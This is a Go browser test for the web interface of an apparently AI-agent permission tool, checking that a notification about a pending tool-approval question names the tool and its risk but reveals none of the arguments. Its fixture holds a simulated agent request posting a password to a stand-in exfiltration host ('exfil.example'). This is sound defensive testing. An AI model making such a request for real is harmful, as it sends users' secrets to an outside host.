package web

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/custom-agent/custom-agent/permission/risk"
)

// TestBrowserNotifiesANewQuestionWithoutArgs opens the sessions page in Chromium
// with notifications granted, then a new question arrives in the log: the
// page makes one notification, naming the tool and its risk and nothing
// from the arguments. Headless Chromium shows no notifications, so the
// Notification constructor is replaced, before the page's script runs, by
// one that records what it is given.
func TestBrowserNotifiesANewQuestionWithoutArgs(t *testing.T) {
	f := newFixture(t)
	l := serveLog(t, f.log, f.inbox)
	ctx := browser(t, 1000, 800)
	const stub = `window.__notes = [];
window.Notification = function (title, opts) { window.__notes.push({title: title, body: (opts && opts.body) || "", tag: (opts && opts.tag) || ""}); };
window.Notification.permission = "granted";
window.Notification.requestPermission = function () { return Promise.resolve("granted"); };`
	var count string
	err := chromedp.Run(ctx,
		chromedp.ActionFunc(func(ctx context.Context) error {
			_, err := cdppage.AddScriptToEvaluateOnNewDocument(stub).Do(ctx)
			return err
		}),
		l.login(), chromedp.Navigate(l.base+"/"),
	)
	if err != nil {
		t.Fatal(err)
	}
	// The page reloads itself when the queue it was drawn with is not
	// the one the stream brings: a poll running in the document that
	// went away fails with "Cannot find context"; it is run again, in the
	// new one (a bounded number of times).
	for try := 0; ; try++ {
		err = chromedp.Run(ctx,
			chromedp.Poll(`(document.getElementById("queue-count") || {}).textContent === "3"`, nil, chromedp.WithPollingTimeout(10*time.Second)),
			chromedp.Text("#queue-count", &count, chromedp.ByQuery),
		)
		if err == nil || try == 4 || !strings.Contains(err.Error(), "Cannot find context") {
			break
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	appendEvent(t, f.log, "sess-A", askPayload("tc_new", "http_post", risk.Network,
		`{"url":"https://exfil.example/upload","body":"password=hunter2-very-secret"}`))
	var notes []map[string]string
	var raw string
	err = chromedp.Run(ctx,
		chromedp.Poll(`window.__notes.length >= 1`, nil, chromedp.WithPollingTimeout(10*time.Second)),
		chromedp.Sleep(300*time.Millisecond),
		chromedp.Evaluate(`JSON.stringify(window.__notes)`, &raw),
	)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(raw), &notes); err != nil {
		t.Fatal(err)
	}
	if len(notes) != 1 {
		t.Fatalf("%d notifications, want 1 (the three questions already waiting are not announced): %s", len(notes), raw)
	}
	n := notes[0]
	if !strings.Contains(n["body"], "http_post") || !strings.Contains(n["body"], "network") {
		t.Errorf("the notice does not name the tool and risk: %+v", n)
	}
	for _, leak := range []string{"exfil", "hunter2", "password", "upload"} {
		if strings.Contains(raw, leak) {
			t.Errorf("the notice holds %q: %s", leak, raw)
		}
	}
}
